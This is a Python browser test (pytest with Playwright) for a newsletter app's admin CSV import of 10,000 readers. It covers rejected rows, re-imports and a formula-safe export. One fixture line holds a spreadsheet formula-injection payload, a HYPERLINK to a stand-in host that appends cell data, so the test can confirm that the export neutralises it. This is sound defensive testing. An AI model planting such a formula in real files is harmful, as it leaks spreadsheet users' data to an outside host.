"""An admin imports 10,000 readers from the console in a real Chromium, against the live app
and a real Celery worker, as the issue states it: 100 bad rows (malformed address, unknown
region, duplicate, a line break in a field; 25 of each) and 9,900 imported, each bad row listed
with its reason; the same file again adds no one; the readers' export, downloaded through the
page's link, round-trips and starts no cell with a formula character. No CSP violation."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from playwright.sync_api import expect

from newsletter.admin.accounts import save_editor
from newsletter.models import Subscriber, SubscriberStatus, db
from newsletter.subscriptions.csvsource import inspect
from newsletter.subscriptions.importer import import_csv
from newsletter.subscriptions.spreadsheet import plain_cell
from tests.delivery.workers import Workers
from tests.support.browser import csp_violations, log_in
from tests.support.smtp import SmtpSink

pytestmark = pytest.mark.browser

ADMIN, PASSWORD = "chef@revue-internationale.example", "a long enough password"
ROWS = 10_000
# Every 100th row is bad, the four kinds in turn: 25 of each.
BAD_KINDS = ("malformed", "unknown region", "duplicate", "line break")
# Good readers whose names a spreadsheet would run as formulas: the export neutralises them.
FORMULA_NAMES = (
    '=HYPERLINK("https://piege.example/?d="&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-Marie",
    "@home",
)
FORMULA_START = ("=", "+", "-", "@")
REGION_SETS = (("asie", "afrique"), ("union-europeenne",), ("ameriques", "moyen-orient", "russie"))
# Generous: a worker starts on a shared, loaded machine, then imports 10,000 rows.
IMPORTED_WITHIN_MS = 180_000


@dataclass(frozen=True)
class Reader:
    name: str
    regions: frozenset[str]
    language: str


@dataclass(frozen=True)
class TheFile:
    readers: dict[str, Reader]  # the good rows, by address
    rejected: dict[int, tuple[str, str]]  # line: (address shown, reason in French)


@pytest.fixture
def app_overrides(smtp_sink: SmtpSink, live_port: int) -> dict[str, Any]:
    return {
        "SMTP_URL": smtp_sink.url,
        "BASE_URL": f"http://127.0.0.1:{live_port}",
        "CELERY_ALWAYS_EAGER": False,  # the import goes through the broker to the worker below
    }


@pytest.fixture
def workers(app: Flask) -> Iterator[Workers]:
    pool = Workers(app, count=1, app_module="worker.celery_app:celery")
    yield pool
    pool.stop()


@pytest.fixture
def page_options() -> dict[str, Any]:
    return {"accept_downloads": True}


def ten_thousand_rows(path: Path) -> TheFile:
    """The file as Excel writes "CSV UTF-8" (semicolons, CRLF, a byte-order mark, quotes where
    a field needs them), and what the import must make of it (the header is line 1)."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["email", "name", "regions", "language"])
    readers: dict[str, Reader] = {}
    rejected: dict[int, tuple[str, str]] = {}
    first_line: dict[str, int] = {}
    line = 2
    for i in range(ROWS):
        email, regions, language = (
            f"lecteur-{i}@example.org",
            REGION_SETS[i % 3],
            "en" if i % 2 else "fr",
        )
        name = FORMULA_NAMES[i // 100 % 4] if i % 100 == 50 else f"Lecteur {i}"
        kind = BAD_KINDS[i // 100 % 4] if i % 100 == 0 else None
        lines = 1
        if kind == "malformed":
            email = f"lecteur-{i}-sans-arobase"
            rejected[line] = (email, "adresse mal formée")
        elif kind == "unknown region":
            regions = ("asie", "atlantide")
            rejected[line] = (email, "région inconnue 'atlantide'")
        elif kind == "duplicate":
            email = f"lecteur-{i - 1}@example.org"
            rejected[line] = (email, f"doublon de la ligne {first_line[email]}")
        elif kind == "line break":
            # A name over two lines: it would break every greeting and header it goes into.
            name, lines = f"Marie\nDupont {i}", 2
            rejected[line] = (
                email,
                f"saut de ligne dans un champ (la ligne s’étend sur les lignes {line}-{line + 1})",
            )
        else:
            readers[email] = Reader(name, frozenset(regions), language)
            first_line[email] = line
        writer.writerow([email, name, ",".join(regions), language])
        line += lines
    path.write_text(out.getvalue(), encoding="utf-8-sig", newline="")
    assert len(readers) == 9_900 and len(rejected) == 100
    return TheFile(readers, rejected)


def upload(page: Any, live_url: str, csv_file: Path) -> None:
    page.goto(f"{live_url}/admin/readers/imports")
    page.set_input_files("input[type=file]", str(csv_file))
    page.fill("textarea[name=consent_note]", "Inscrits sur le formulaire de l’ancien site")
    page.check("#import-consent")
    page.click("button:text('Importer')")
    page.wait_for_selector(f"h1:text('Import de {csv_file.name}')")


def expect_report(page: Any, *, added: int, already_known: int, rejected: int) -> None:
    # The page follows the worker and shows the report once it is done, without a click.
    expect(page.locator('[data-count="added"]')).to_have_text(
        str(added), timeout=IMPORTED_WITHIN_MS
    )
    expect(page.locator('[data-count="already_known"]')).to_have_text(str(already_known))
    expect(page.locator('[data-count="rejected"]')).to_have_text(str(rejected))


def listed_rejections(page: Any) -> dict[int, tuple[str, str]]:
    cells = page.locator("table.rejections tbody tr").evaluate_all(
        "rows => rows.map(row => [...row.cells].map(cell => cell.textContent))"
    )
    return {int(line): (email, reason) for line, email, reason in cells}


def test_an_admin_imports_ten_thousand_readers_with_a_hundred_bad_rows_twice_and_exports_them(
    page: Any, live_url: str, console: list[str], workers: Workers, tmp_path: Path
) -> None:
    csv_file = tmp_path / "abonnes-ancien-outil.csv"
    the_file = ten_thousand_rows(csv_file)
    save_editor(ADMIN, PASSWORD, is_admin=True)
    log_in(page, live_url, ADMIN, PASSWORD)
    workers.start()

    # Without the box the browser itself keeps the form (the server's refusal is tested too).
    page.goto(f"{live_url}/admin/readers/imports")
    page.set_input_files("input[type=file]", str(csv_file))
    page.fill("textarea[name=consent_note]", "Inscrits sur le formulaire de l’ancien site")
    page.click("button:text('Importer')")
    assert page.locator("#import-consent").evaluate("box => box.validity.valueMissing")
    assert db.session.execute(db.select(db.func.count(Subscriber.id))).scalar_one() == 0

    upload(page, live_url, csv_file)
    expect_report(page, added=9_900, already_known=0, rejected=100)
    assert listed_rejections(page) == the_file.rejected

    with page.expect_download() as download_info:
        page.click("text=Télécharger les lignes refusées (CSV)")
    download = download_info.value
    assert download.suggested_filename == "rapport-abonnes-ancien-outil.csv"
    report = Path(download.path()).read_text(encoding="utf-8-sig")
    found = {int(row[0]): row[1] for row in list(csv.reader(io.StringIO(report)))[1:]}
    assert found == {line: email for line, (email, _) in the_file.rejected.items()}

    # The same file again: everyone is known, and the same 100 rows are refused.
    upload(page, live_url, csv_file)
    expect_report(page, added=0, already_known=9_900, rejected=100)
    assert listed_rejections(page) == the_file.rejected

    page.goto(f"{live_url}/admin/readers")
    with page.expect_download() as download_info:
        page.click("text=Exporter en CSV")
    exported = Path(download_info.value.path())
    rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
    assert [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_START)] == []
    shown = {row["email"]: row["name"] for row in rows}
    assert shown["lecteur-50@example.org"] == "'" + FORMULA_NAMES[0]
    assert shown["lecteur-250@example.org"] == "'" + FORMULA_NAMES[2]
    assert {
        row["email"]: Reader(
            plain_cell(row["name"]), frozenset(row["regions"].split(";")), row["language"]
        )
        for row in rows
    } == the_file.readers

    db.session.remove()
    stored = db.session.execute(db.select(Subscriber.status, Subscriber.name)).all()
    assert len(stored) == 9_900
    assert {status for status, _ in stored} == {SubscriberStatus.CONFIRMED}
    assert set(FORMULA_NAMES) <= {name for _, name in stored}
    # The export imported again is the same readers: nobody added, nobody refused.
    again = import_csv(inspect(exported), confirmed=True, consent_note="export of the console")
    assert (again.added, again.already_known, again.rejected) == (0, 9_900, [])
    assert csp_violations(console) == []
